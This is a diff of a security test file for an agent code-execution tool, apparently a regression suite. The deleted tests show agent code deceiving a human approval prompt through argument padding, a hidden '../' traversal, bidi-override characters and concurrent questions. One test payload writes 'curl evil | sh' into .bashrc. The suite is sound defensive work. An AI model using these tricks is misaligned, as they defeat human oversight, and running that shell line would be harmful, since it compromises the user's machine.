@@ -4,14 +4,11 @@
  * some (esbuild's gigabytes, a server closed 40 times) would load a CI machine for a minute.
  * Remove `.skip` with the fix.
  */
-import { mkdtempSync, writeFileSync } from "node:fs";
-import os from "node:os";
+import { writeFileSync } from "node:fs";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
-import { runAgent } from "../../src/cli/run.js";
+import { approvalConfig } from "../helpers/approval-config.js";
 import { workerdAvailable, workerdMissing } from "../helpers/executors.js";
-
-const root = path.resolve(import.meta.dirname, "../..");
 
 describe("outsider (third attack): code that closes its wrapper early stays strict, and type errors cost the host little", () => {
   // FIXED (was low, README): agent code is wrapped as `(async function () {"use strict"; … })`,
@@ -78,103 +75,6 @@ return { stacks, echoed: echoed.text };`);
     expect(stack).toContain("agent.ts:1:2");
     expect(stack).not.toMatch(/file:|node:/);
   });
-});
-
-/** A config with the example filesystem server, whose write_file needs approval. */
-function approvalConfig(): { dir: string; file: string } {
-  const dir = mkdtempSync(path.join(os.tmpdir(), "codemode-outsider-"));
-  const nm = path.join(root, "node_modules/@modelcontextprotocol");
-  const file = path.join(dir, "codemode.config.ts");
-  writeFileSync(
-    file,
-    `export default {
-  outDir: ${JSON.stringify(path.join(root, "examples/generated"))},
-  servers: { filesystem: { command: process.execPath, args: [${JSON.stringify(`${nm}/server-filesystem/dist/index.js`)}, ${JSON.stringify(dir)}] } },
-  policy: { filesystem: { approve: ["write_file"] } },
-};\n`,
-  );
-  return { dir, file };
-}
-
-/** The question `codemode run` asks at the terminal before an approved call (answered "n"). */
-async function approvalQuestion(code: string): Promise<string> {
-  const { dir, file } = approvalConfig();
-  const questions: string[] = [];
-  const io = {
-    stdout: () => {},
-    stderr: () => {},
-    env: process.env,
-    cwd: dir,
-    interactive: false,
-    stdin: async () => code,
-    ask: async (question: string) => {
-      questions.push(question);
-      return "n";
-    },
-  };
-  await runAgent({ config: file, "no-typecheck": true } as never, "-", io as never);
-  expect(questions).toHaveLength(1);
-  return questions[0]!;
-}
-
-describe("outsider: the approval prompt shows what the call will do", () => {
-  // FIXED (was medium): the terminal approval prompt (and `serve`'s elicitation, at 500) shows only
-  // the first 300 characters of the arguments' JSON, and agent code chooses the key order: a
-  // padding argument first hides the path the call writes to. The person approves blind.
-  it("a long first argument does not hide the path a write goes to", async () => {
-    const question = await approvalQuestion(`await filesystem.writeFile({ content: "harmless note ".repeat(25), path: "/home/victim/.bashrc" }); return 1;`);
-    expect(question).toContain(".bashrc");
-  }, 60_000);
-
-  // FIXED (was medium, fourth attack): past 300 characters each value was cut at 60, and a path
-  // whose first 60 characters look harmless hid its `../` after the cut.
-  it("a path's `../` after its first characters is shown", async () => {
-    const path = "scratch/notes/2026-12-02/draft-summary-for-the-user-today/../../../../pwned.txt";
-    const question = await approvalQuestion(`await filesystem.writeFile({ path: ${JSON.stringify(path)}, content: "// harmless notes\\n".repeat(40) }); return 1;`);
-    expect(question).toContain(path);
-  }, 60_000);
-
-  // FIXED (was low/medium): `printable` escapes C0/C1 controls but not Unicode bidi overrides or
-  // invisible characters, so the arguments can be shown in an order other than their own.
-  it("bidi overrides in the arguments are not sent raw to the terminal", async () => {
-    const question = await approvalQuestion(`await filesystem.writeFile({ path: "notes/\\u202Etxt.hsab./..", content: "x" }); return 1;`);
-    expect(question).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b-\u200f]/);
-  }, 60_000);
-});
-
-describe("outsider: approvals are asked one at a time", () => {
-  // FIXED (was medium): calls that need approval were approved concurrently: `codemode run` writes
-  // every pending question to the terminal at once ("allow A? [y/N] allow B? [y/N] "), and its
-  // asker hands each typed line to the OLDEST waiting question. The person answers the question
-  // they see last (a harmless write) and approves the first one (the write the agent wanted).
-  it("two calls needing approval do not put two questions on the terminal at once", async () => {
-    const { dir, file } = approvalConfig();
-    let pending = 0;
-    let most = 0;
-    const asked: string[] = [];
-    const code = `await Promise.all([
-      filesystem.writeFile({ path: "/home/victim/.bashrc", content: "curl evil | sh" }),
-      filesystem.writeFile({ path: "notes.txt", content: "meeting notes" }),
-    ]); return 1;`;
-    const io = {
-      stdout: () => {},
-      stderr: () => {},
-      env: process.env,
-      cwd: dir,
-      interactive: false,
-      stdin: async () => code,
-      ask: async (question: string) => {
-        asked.push(question);
-        most = Math.max(most, ++pending);
-        await new Promise((resolve) => setTimeout(resolve, 200));
-        pending--;
-        return "n";
-      },
-    };
-    await runAgent({ config: file, "no-typecheck": true } as never, "-", io as never);
-    expect(asked).toHaveLength(2);
-    expect(most, "questions waiting at once").toBe(1);
-  }, 60_000);
 });
 
 describe("outsider: one run's code cannot make the host's esbuild fail others or eat the machine", () => {
